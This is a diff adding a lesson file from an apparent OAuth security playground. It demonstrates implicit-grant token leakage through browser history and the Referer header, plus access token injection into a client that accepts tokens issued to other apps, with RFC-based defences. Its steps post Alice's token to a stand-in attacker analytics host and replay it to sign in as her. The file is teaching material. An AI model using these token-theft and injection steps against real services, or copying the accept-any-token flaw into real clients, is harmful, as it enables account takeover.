@@ -1,0 +1,236 @@
+"""Implicit grant: where the token leaks, and a token injected into the client."""
+
+from urllib.parse import urlsplit
+
+from playground import Lesson
+
+PIXEL = "https://attacker.playground.test/pixel.gif"
+ANALYTICS_SDK = "https://sdk.attacker.playground.test/collect"
+ALICE = "u-1001"
+
+lesson = Lesson(
+    "Implicit grant: token leakage and token injection",
+    level="intermediate",
+    kind="attack",
+    weakness="client.accept_any_token",
+    summary=(
+        "Part one needs no weakness: Legacy Gallery's access token arrives in "
+        "the URL, stays in the browser's history, and once it is in the query "
+        "a third-party image carries it to Mallory in the Referer header. "
+        "That is why the implicit grant is deprecated. Part two is the "
+        "weakness: Legacy Gallery signs in whoever hands it a token of "
+        "Alice's, even one issued to another app."
+    ),
+    defence="""
+- **Do not use the implicit grant** (RFC 9700 2.1.2): the token travels in
+  the front channel, where it leaks through history (RFC 9700 4.3.2) and,
+  once in a query, through `Referer` (RFC 9700 4.2). Use the authorization
+  code grant with PKCE: only a one-time code crosses the browser, and it is
+  worthless without the code verifier.
+- **Never put tokens in URLs** (RFC 6750 5.3, RFC 9700 2.5 and 4.3): not in
+  the query, not by "moving the fragment" for the server's sake. Set
+  `Referrer-Policy: no-referrer` on pages that handle credentials
+  (RFC 9700 4.2.4).
+- **Check who a token was issued to before trusting it for sign-in**
+  (access token injection, RFC 9700 4.6; RFC 6749 10.16): an access token
+  says what its holder may do at an API, not who is in front of the app.
+  The defended run checks the token's `client_id` (RFC 9068 2.2) against
+  the app's own and refuses with 401.
+- **For sign-in, use OpenID Connect**: the ID token's `aud` is the client
+  itself, and the client MUST check it (OIDC Core 3.1.3.7).
+""",
+)
+
+
+def load_third_party_image(browser):
+    """The page's <img src=".../pixel.gif">: the browser fetches it and says
+    which page it is on in Referer, never with the fragment (RFC 9110
+    10.1.3). Like a browser under `Referrer-Policy: unsafe-url` (the worst
+    case), it sends the full address otherwise."""
+    referer = browser.address.split("#", 1)[0]
+    return browser.http.get(PIXEL, headers={"Referer": referer})
+
+
+@lesson.step("Legacy Gallery gets Alice's token in the fragment")
+def implicit_sign_in(run):
+    """
+    Lesson 05 in one go: Legacy Gallery asks for `response_type=token`,
+    Alice signs in and approves, and the authorization server answers
+    **302** with the access token in the `Location` **fragment**
+    (`#access_token=eyJ...`, RFC 6749 4.2.2). The JWT panel decodes it:
+    `client_id: legacy-gallery`.
+    """
+    url = run.legacy_app.authorization_url("basic photos.read", response_type="token")
+    run.browser.open(url)
+    run.browser.sign_in("alice", "wonderland")
+    run.browser.follow_redirect()
+    run.browser.approve()
+    location = run.browser.redirect_location or ""
+    run.gallery_token = run.browser.redirect_params.get("access_token", "")
+    run.check("the authorization server answers 302", run.browser.status == 302)
+    run.check(
+        "the token is in the Location fragment",
+        "access_token=" in urlsplit(location).fragment,
+    )
+    run.check(
+        "it was issued to legacy-gallery",
+        run.decode(run.gallery_token).claims.get("client_id") == "legacy-gallery",
+    )
+
+
+@lesson.step("The token stays in the browser's history")
+def history(run):
+    """
+    The browser follows the redirect. `GET /legacy/callback` carries **no**
+    token (a fragment never leaves the browser), but the address bar holds
+    the whole URL, `#access_token=...` included, and so does the
+    **history** (RFC 9700 4.3.2). Whoever uses this browser next, or reads
+    its synced history, can copy the token; so can any script on the page.
+    """
+    run.browser.follow_redirect()
+    callback = run.world.transcript.exchanges[-1]
+    run.check(
+        "the GET /legacy/callback request carries no token",
+        "access_token" not in callback.request.url,
+    )
+    run.check(
+        "the browser's history holds the access token",
+        any(run.gallery_token in url for url in run.browser.history),
+    )
+
+
+@lesson.step("A third-party image: the fragment stays home")
+def referer_without_fragment(run):
+    """
+    The callback page shows an image from another site, an ad or analytics
+    pixel at `attacker.playground.test`. Read the request: `GET /pixel.gif`
+    with a `Referer` header naming the page it is on.
+
+    Browsers never put the fragment in `Referer` (RFC 9110 10.1.3). Today's
+    default policy, `strict-origin-when-cross-origin`, would even send only
+    `https://client.playground.test/`; our browser sends the full address,
+    as under `Referrer-Policy: unsafe-url` or in older browsers. Even in
+    that worst case, the token in the fragment does not reach Mallory.
+    """
+    response = load_third_party_image(run.browser)
+    referer = run.last_request.header("Referer") or ""
+    run.check("the image request answers 204", response.status_code == 204)
+    run.check(
+        "Referer names the callback page, without the fragment",
+        referer == f"{run.world.client_url}/legacy/callback",
+        referer,
+    )
+    run.check("Mallory's site received no secret", not run.attacker.secrets_received())
+
+
+@lesson.step("The token moved into the query leaks via Referer")
+def referer_with_query(run):
+    """
+    Legacy Gallery's script wants its server to see the token, so it
+    reloads the page with the fragment moved into the **query**:
+    `/legacy/callback?access_token=...`. (Asking for `response_mode=query`
+    with `response_type=token` would be the same mistake.) Read the first
+    request: the token now crosses the wire to the client's server, into
+    its access logs.
+
+    Then the page loads the same image, and this time `Referer` carries the
+    query: Mallory's site receives Alice's token. She calls the photos API
+    with it: **200**, Alice's profile. No weakness is on; this is the
+    implicit grant plus one ordinary mistake (RFC 9700 4.2, RFC 6750 5.3).
+    """
+    fragment = urlsplit(run.browser.address).fragment
+    run.browser.open(f"{run.world.client_url}/legacy/callback?{fragment}")
+    load_third_party_image(run.browser)
+    referer_loot = [item for item in run.attacker.site.loot if item.via == "referer"]
+    stolen = run.attacker.loot("access_token")
+    profile = run.attacker.call_api("/api/user", stolen[-1] if stolen else "")
+    run.check(
+        "the request to the client now carries the token in its URL",
+        run.gallery_token in run.exchanges[0].request.url,
+    )
+    run.check(
+        "Mallory's site got Alice's token from the Referer header",
+        stolen == [run.gallery_token]
+        and any(item.name == "access_token" for item in referer_loot),
+    )
+    run.check(
+        "with it, Mallory reads Alice's profile (200)",
+        profile.status_code == 200 and profile.json().get("id") == ALICE,
+    )
+
+
+@lesson.step("Mallory gets a token of Alice's from another app")
+def token_from_another_app(run):
+    """
+    Part two: **token injection**. Alice also uses **PhotoPrint Mobile**.
+    The app embeds a third-party analytics SDK, which is Mallory's; it
+    reports the app's requests home, bearer token included. Read the
+    request: from the **client** to `sdk.attacker.playground.test`, with
+    `access_token=...` in the body.
+
+    The token is Alice's (`sub: u-1001`) but was issued to
+    `photoprint-mobile`, not to Legacy Gallery: look at `client_id` in the
+    JWT panel.
+    """
+    response = run.first_party_app.password("alice", "wonderland", "basic")
+    token = response.json().get("access_token", "")
+    run.first_party_app.http.post(
+        ANALYTICS_SDK, data={"event": "api_call", "access_token": token}
+    )
+    run.other_token = run.attacker.loot("access_token")[-1]
+    claims = run.decode(run.other_token).claims
+    run.check("PhotoPrint Mobile got a token (200)", response.status_code == 200)
+    run.check("the SDK sent it to Mallory", run.other_token == token)
+    run.check(
+        "it is Alice's, issued to photoprint-mobile",
+        claims.get("sub") == ALICE and claims.get("client_id") == "photoprint-mobile",
+    )
+
+
+@lesson.step("Mallory injects it into Legacy Gallery")
+def inject(run):
+    """
+    Legacy Gallery's page script posts the token from the fragment to
+    `POST /legacy/session`, and the server signs in "whoever the token
+    belongs to". Mallory posts the same form herself, with Alice's
+    PhotoPrint Mobile token (the request comes from the **Attacker** in the
+    transcript).
+
+    **Weakness on** (`client.accept_any_token`): the server asks the photos
+    API who the token is for, gets Alice, and answers **200** *"Signed in as
+    Alice Liddell."*, with a session cookie for Mallory. A token good at the
+    API was taken as proof of who is at the keyboard (RFC 6749 10.16).
+    Mallory could already call the API with this token; what the injection
+    adds is Alice's **account at Legacy Gallery**, with everything the app
+    keeps there and lets its users do.
+
+    **Defended**: **401** *"This token was issued to photoprint-mobile, not
+    to Legacy Gallery."* The server verified the token against the
+    authorization server's keys (a `GET /jwks.json` of its own) and checked
+    `client_id`: this app's check, not the API's.
+    """
+    response = run.attacker.http.post(
+        f"{run.world.client_url}/legacy/session",
+        data={"access_token": run.other_token},
+    )
+    if run.weakness_on:
+        run.check("Legacy Gallery answers 200", response.status_code == 200)
+        run.check(
+            'the page says "Signed in as Alice Liddell."',
+            "Signed in as Alice Liddell." in response.text,
+        )
+        run.check(
+            "Mallory holds a Legacy Gallery session cookie",
+            any(
+                cookie.name == "photoprint_session"
+                for cookie in run.attacker.http.cookies.jar
+            ),
+        )
+    else:
+        refusal = "This token was issued to photoprint-mobile, not to Legacy Gallery."
+        run.check("Legacy Gallery answers 401", response.status_code == 401)
+        run.check(f'the page says "{refusal}"', refusal in response.text)
+        run.check(
+            "the client's check refused it: token_not_for_this_client",
+            run.web_client.last_error == "token_not_for_this_client",
+        )
